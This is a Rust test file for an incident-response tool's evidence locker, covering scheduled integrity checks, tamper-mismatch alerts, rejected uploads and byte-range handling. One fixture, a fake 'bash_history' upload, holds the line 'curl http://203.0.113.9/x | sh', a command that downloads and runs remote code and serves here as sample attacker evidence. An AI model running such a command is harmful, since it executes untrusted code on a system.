//! Service-level tests of the evidence locker: the verification schedule driven by a manual
//! clock, the mismatch alert hook, and byte-range resolution. The HTTP behaviour is tested
//! black-box in `crates/cordon/tests/evidence.rs`.

use std::sync::{Arc, Mutex};

use async_trait::async_trait;
use bytes::Bytes;
use cordon_core::clock::{Clock, ManualClock};
use cordon_core::incident::{IncidentKind, Severity};
use cordon_core::role::Role;
use cordon_store::SqliteStore;

use crate::gate::SYSTEM_ACTOR;
use jiff::SignedDuration;

use super::*;
use crate::{Declare, Playbooks};

#[derive(Default)]
struct Recorder(Mutex<Vec<MismatchAlert>>);

#[async_trait]
impl MismatchNotifier for Recorder {
    async fn evidence_mismatch(&self, _cordon: &Cordon, alert: &MismatchAlert) {
        self.0.lock().unwrap().push(alert.clone());
    }
}

struct Fixture {
    cordon: Cordon,
    clock: Arc<ManualClock>,
    admin: Principal,
    alerts: Arc<Recorder>,
    dir: tempfile::TempDir,
}

async fn fixture() -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    let store = SqliteStore::open(&dir.path().join("cordon.db")).await.unwrap();
    let clock = Arc::new(ManualClock::new("2026-11-27T12:00:00Z".parse().unwrap()));
    let alerts = Arc::new(Recorder::default());
    let locker = Locker::open(&dir.path().join("evidence"))
        .await
        .unwrap()
        .with_notifier(alerts.clone());
    let cordon = Cordon::new(Arc::new(store), clock.clone(), Playbooks::builtin()).with_evidence(locker);
    let token = "cordon_service_test_token_0123456789".to_owned();
    cordon.bootstrap_admin(Some(token.clone())).await.unwrap();
    let admin = cordon.authenticate(&token).await.unwrap();
    Fixture {
        cordon,
        clock,
        admin,
        alerts,
        dir,
    }
}

fn body(data: &'static [u8]) -> impl Stream<Item = std::result::Result<Bytes, std::io::Error>> {
    futures::stream::iter(data.chunks(7).map(|c| Ok(Bytes::from_static(c))))
}

#[tokio::test]
async fn the_schedule_verifies_what_is_due_and_alerts_the_commander_on_a_mismatch() {
    let f = fixture().await;
    let inc = f
        .cordon
        .declare(
            &f.admin,
            Declare {
                title: "Exfiltration from web1".into(),
                description: None,
                kind: IncidentKind::Security,
                severity: Severity::new(1).unwrap(),
                room: None,
            },
        )
        .await
        .unwrap();
    let r = inc.incident.id.to_string();
    f.cordon
        .add_member(&f.admin, &r, "admin", Role::IncidentCommander)
        .await
        .unwrap();
    let new = |name: &str| NewEvidence {
        name: name.into(),
        ..NewEvidence::default()
    };
    let a = f
        .cordon
        .add_evidence(
            &f.admin,
            &r,
            new("auth.log"),
            body(b"Nov 27 sshd[1]: Accepted password for root"),
        )
        .await
        .unwrap();
    f.clock.advance(SignedDuration::from_hours(1));
    let b = f
        .cordon
        .add_evidence(
            &f.admin,
            &r,
            new("bash_history"),
            body(b"curl http://203.0.113.9/x | sh"),
        )
        .await
        .unwrap();
    let day = SignedDuration::from_hours(24);

    // Nothing is a day old yet.
    let now = f.clock.now();
    assert_eq!(
        f.cordon.verify_due_evidence(now, day).await.unwrap(),
        SweepReport::default()
    );

    // A day after the first upload, only the first is due.
    f.clock.advance(SignedDuration::from_hours(23));
    let now = f.clock.now();
    let report = f.cordon.verify_due_evidence(now, day).await.unwrap();
    assert_eq!(report.verified, 1);
    let custody = f
        .cordon
        .evidence(&f.admin, &r, &a.item.id.to_string())
        .await
        .unwrap()
        .custody;
    let last = custody.last().unwrap();
    assert_eq!(
        (last.kind, last.actor.as_str(), last.at),
        (CustodyKind::Verification, SYSTEM_ACTOR, now)
    );
    assert!(last.details.contains(r#""ok":true"#), "{}", last.details);
    // Run again at the same time: nothing is due.
    assert_eq!(f.cordon.verify_due_evidence(now, day).await.unwrap().verified, 0);

    // Someone changes one stored byte of the second item.
    let key = &b.item.blob_key;
    let path = f.dir.path().join("evidence/objects").join(&key[..2]).join(key);
    let mut perms = std::fs::metadata(&path).unwrap().permissions();
    #[allow(clippy::permissions_set_readonly_false)]
    perms.set_readonly(false);
    std::fs::set_permissions(&path, perms).unwrap();
    let mut bytes = std::fs::read(&path).unwrap();
    bytes[0] ^= 1;
    std::fs::write(&path, bytes).unwrap();

    f.clock.advance(SignedDuration::from_hours(2));
    let now = f.clock.now();
    let report = f.cordon.verify_due_evidence(now, day).await.unwrap();
    assert_eq!(
        report,
        SweepReport {
            verified: 1,
            mismatches: 1,
            errors: 0
        }
    );
    let alerts = f.alerts.0.lock().unwrap().clone();
    assert_eq!(alerts.len(), 1);
    let alert = &alerts[0];
    assert_eq!(alert.item_id, b.item.id);
    assert_eq!(alert.codename, inc.incident.codename.to_string());
    assert_eq!(alert.commanders, ["admin"]);
    assert!(
        alert.mismatches.contains(&"sha256_vs_key".to_owned()),
        "{:?}",
        alert.mismatches
    );
    let audit = f.cordon.audit_entries(&f.admin, 0, 10_000).await.unwrap();
    let entry = audit.iter().find(|e| e.record.seq == alert.audit_seq).unwrap();
    assert_eq!(entry.record.action, "evidence.mismatch");
    assert_eq!(entry.record.actor, SYSTEM_ACTOR);
    assert!(f.cordon.verify_audit(&f.admin).await.unwrap().ok());
}

#[tokio::test]
async fn rejected_uploads_keep_nothing_and_are_audited() {
    let f = fixture().await;
    let inc = f
        .cordon
        .declare(
            &f.admin,
            Declare {
                title: "t".into(),
                description: None,
                kind: IncidentKind::Operational,
                severity: Severity::new(3).unwrap(),
                room: None,
            },
        )
        .await
        .unwrap();
    let r = inc.incident.id.to_string();
    let wrong = NewEvidence {
        name: "x".into(),
        expected_sha256: Some("00".repeat(32)),
        ..NewEvidence::default()
    };
    let err = f
        .cordon
        .add_evidence(&f.admin, &r, wrong, body(b"abc"))
        .await
        .unwrap_err();
    assert!(
        matches!(
            err,
            ServiceError::Invalid {
                field: "expected_sha256",
                ..
            }
        ),
        "{err:?}"
    );
    let short = NewEvidence {
        name: "x".into(),
        declared_len: Some(10),
        ..NewEvidence::default()
    };
    let err = f
        .cordon
        .add_evidence(&f.admin, &r, short, body(b"abc"))
        .await
        .unwrap_err();
    assert!(matches!(err, ServiceError::Invalid { field: "body", .. }), "{err:?}");
    assert!(f.cordon.evidence_list(&f.admin, &r).await.unwrap().is_empty());
    let actions: Vec<String> = f
        .cordon
        .audit_entries(&f.admin, 0, 10_000)
        .await
        .unwrap()
        .into_iter()
        .map(|e| e.record.action)
        .collect();
    assert_eq!(actions.iter().filter(|a| *a == "evidence.add.rejected").count(), 2);
    let incoming = std::fs::read_dir(f.dir.path().join("evidence/incoming"))
        .unwrap()
        .count();
    assert_eq!(incoming, 0);
}

#[test]
fn ranges_resolve_like_http() {
    let r = |req: RangeRequest, size: u64| req.resolve(size).map(|b| (b.start(), b.end()));
    assert_eq!(r(RangeRequest::FromTo(0, 9), 100).unwrap(), (0, 10));
    assert_eq!(r(RangeRequest::FromTo(90, 500), 100).unwrap(), (90, 100));
    assert_eq!(r(RangeRequest::From(99), 100).unwrap(), (99, 100));
    assert_eq!(r(RangeRequest::Suffix(10), 100).unwrap(), (90, 100));
    assert_eq!(r(RangeRequest::Suffix(500), 100).unwrap(), (0, 100));
    for bad in [
        RangeRequest::FromTo(100, 200),
        RangeRequest::From(100),
        RangeRequest::Suffix(0),
        RangeRequest::FromTo(5, 4),
    ] {
        assert!(matches!(
            r(bad, 100),
            Err(ServiceError::RangeNotSatisfiable { size: 100 })
        ));
    }
    assert!(r(RangeRequest::Suffix(1), 0).is_err());
}
